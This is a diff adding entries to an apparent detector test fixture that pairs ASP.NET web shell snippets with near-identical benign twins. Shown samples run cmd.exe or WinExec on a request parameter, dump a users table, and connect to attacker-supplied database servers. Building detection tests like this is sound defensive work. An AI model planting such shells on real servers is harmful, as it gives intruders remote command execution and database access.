@@ -103,6 +103,24 @@ const PAIRS: readonly (readonly [what: string, path: string, shell: string, twin
     '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){Server.ScriptTimeout = 300;DataSet d=Q("SELECT * FROM [users]");for(int i=0;i<d.Tables[0].Columns.Count;i++)Response.Write(d.Tables[0].Rows[0][i]+"\\t");}</script>',
   ],
   [
+    'a shell told what one function makes of an order',
+    'a.aspx',
+    `${TEXT}<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new System.Diagnostics.Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments=Own.Made(Request["c"]);p.Start();}</script>`,
+    `${TEXT}<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new System.Diagnostics.Process();p.StartInfo.FileName="convert.exe";p.StartInfo.Arguments=Own.Made(Request["c"]);p.Start();}</script>`,
+  ],
+  [
+    'server, account and password of a database',
+    'a.aspx',
+    '<%@ Page Language="C#"%><script runat="server">void B(object s,EventArgs e){SqlConnection c=new SqlConnection();c.ConnectionString=String.Format("Server={0};uid={1};pwd={2}",txtServer.Text,txtUser.Text,txtPass.Text);c.Open();}</script>',
+    '<%@ Page Language="C#"%><script runat="server">void B(object s,EventArgs e){SqlConnection c=new SqlConnection();c.ConnectionString=String.Format("Server=db.example;uid={0};pwd=x",txtUser.Text);c.Open();}</script>',
+  ],
+  [
+    'a database one handler keeps and another asks',
+    'a.aspx',
+    '<%@ Page Language="C#"%><script runat="server">void A(object s,EventArgs e){SqlConnection c=new SqlConnection(ViewState["c"].ToString());new SqlCommand("sp_databases",c).ExecuteReader();}void B(object s,EventArgs e){ViewState["c"]=txtConnection.Text;}</script>',
+    '<%@ Page Language="C#"%><script runat="server">void A(object s,EventArgs e){SqlConnection c=new SqlConnection(ViewState["c"].ToString());new SqlCommand("sp_databases",c).ExecuteReader();}void B(object s,EventArgs e){ViewState["c"]=Settings.Connection;}</script>',
+  ],
+  [
     'functions of Windows that start programs',
     'a.aspx',
     '<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32.dll")]static extern uint WinExec(string c,uint n);void Page_Load(object s,EventArgs e){WinExec(Request["c"],0);}</script>',
